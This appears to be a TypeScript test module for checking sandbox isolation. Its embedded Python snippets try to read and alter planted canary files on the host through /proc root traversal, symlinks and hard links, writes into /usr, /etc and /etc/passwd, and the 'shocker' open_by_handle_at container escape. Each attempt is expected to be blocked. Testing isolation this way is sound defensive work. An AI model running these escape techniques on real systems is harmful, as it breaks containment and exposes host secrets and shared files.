import { python } from './attack.ts'
import { Canaries } from './canaries.ts'
import type { Stage } from './stage.ts'

/** Files that anyone on the host may read, in places that no sandbox may see. */
export function hostFiles(): Stage {
  const canaries = new Canaries()
  const facts = () => ({ paths: canaries.paths, token: canaries.token })
  const untouched = () => canaries.check()
  const mend = async () => {
    await canaries[Symbol.asyncDispose]()
    await canaries.plant()
  }
  return {
    attacks: [
      {
        name: 'reading files of the host',

        why: 'keys, source code, other people’s data',
        facts,
        stoppedBy: /^(ENOENT|EACCES|EPERM)/,
        untouched,
        code: python`
def reader(path):
    def read():
        with open(path) as file:
            found = file.read()
        assert found == facts['token'], found
        return found
    return read

for path in facts['paths']:
    way(path)(reader(path))
# In /home, which anybody may pass: where it stays unread, permission bits did not do it.
deep = '../' * 40
for front in ['/proc/self/root', '/proc/1/root', '/proc/1/cwd', '/proc/self/cwd', '/usr/lib', '/proc/self/fd/../root', '/proc/thread-self/root']:
    way(f'{front} and up')(reader(f"{front}/{deep}{facts['paths'][1]}"))
`,
      },
      {
        name: 'writing files of the host',

        why: 'a line in a profile or crontab runs with the host’s rights',
        facts,
        stoppedBy: /^(ENOENT|EACCES|EPERM|EROFS|ELOOP)/,
        untouched,
        mend,
        code: python`
canary = facts['paths'][0]

@way('append')
def append():
    with os.fdopen(os.open(canary, os.O_WRONLY | os.O_APPEND), 'w') as file:
        file.write('changed')
    return canary

@way('make beside it')
def make():
    os.close(os.open(canary + '-new', os.O_WRONLY | os.O_CREAT | os.O_EXCL) if os.path.exists(canary) else os.open(canary, os.O_WRONLY))
    return canary + '-new'

@way('through a symbolic link')
def link():
    folder = f'{SCRATCH}/link'
    os.symlink(canary, folder)
    try:
        with os.fdopen(os.open(folder, os.O_WRONLY | os.O_APPEND), 'w') as file:
            file.write('changed')
    finally:
        os.unlink(folder)
    return canary

@way('hard link')
def hard():
    folder = os.path.dirname(canary)
    os.link(canary, canary + '-new2')
    os.unlink(canary + '-new2')
    return canary

@way('chmod')
def chmod():
    os.chmod(canary, 0o600)
    return canary

@way('rename')
def rename():
    os.rename(canary, canary + '-away')
    os.rename(canary + '-away', canary)
    return canary

@way('unlink')
def unlink():
    os.unlink(canary)
    return canary
`,
      },
      {
        name: 'writing what all sandboxes share',

        why: 'a changed program of /usr or file of /etc would meet the host and every other sandbox',
        facts: () => ({ name: `shared-${canaries.token}` }),
        stoppedBy: /^(EROFS|EACCES|EPERM|ENOENT)/,
        code: python`
def maker(folder):
    def make():
        path = os.path.join(folder, facts['name'])
        os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
        os.unlink(path)
        return path
    return make

for folder in ['/', '/usr', '/usr/bin', '/usr/local/bin', '/usr/lib', '/etc', '/bin', '/lib', '/var', '/home', '/dev']:
    way(f'make a file in {folder}')(maker(folder))

@way('open a program of /usr for writing')
def program():
    return open_only('/usr/bin/true', os.O_WRONLY)

@way('open a file of /etc for writing')
def etc():
    return open_only('/etc/passwd', os.O_WRONLY)

@way('change its times')
def times():
    found = os.stat('/usr/bin/true')
    os.utime('/usr/bin/true', ns=(found.st_atime_ns, found.st_mtime_ns))
    return 'utime'

@way('change its mode')
def mode():
    os.chmod('/usr/bin/true', os.stat('/usr/bin/true').st_mode & 0o7777)
    return 'chmod'

@way('set an attribute')
def attribute():
    os.setxattr('/usr/bin/true', 'user.' + facts['name'], b'x')
    os.removexattr('/usr/bin/true', 'user.' + facts['name'])
    return 'xattr'
`,
      },
      {
        name: 'opening files by handle',

        why: 'a handle names a file of the file system by number, past every mount (CVE-2014-3519, "shocker")',
        facts: () => ({ canary: canaries.path, token: canaries.token }),
        stoppedBy: /^(EPERM|ENOENT)/,
        untouched,
        code: python`
class Handle(ctypes.Structure):
    _fields_ = [('bytes', ctypes.c_uint), ('type', ctypes.c_int), ('data', ctypes.c_ubyte * 128)]

def handle_of(path):
    handle, mount = Handle(bytes=128), ctypes.c_int()
    syscall('name_to_handle_at', -100, path.encode(), ctypes.byref(handle), ctypes.byref(mount), 0)
    return handle

@way('name_to_handle_at')
def name():
    return handle_of('/usr').bytes

@way('open_by_handle_at')
def by_handle():
    # The root of an ext4 file system is inode 2, whatever is mounted of it.
    handle = Handle(bytes=8, type=1)
    struct.pack_into('II', handle.data, 0, 2, 0)
    at = os.open('/usr', os.O_RDONLY)
    root = syscall('open_by_handle_at', at, ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY)
    file = os.open(facts['canary'].lstrip('/'), os.O_RDONLY, dir_fd=root)
    assert os.read(file, 100).decode() == facts['token']
    return facts['token']
`,
      },
    ],
    async open() {
      await canaries.plant()
    },
    async [Symbol.asyncDispose]() {
      await canaries[Symbol.asyncDispose]()
    },
  }
}
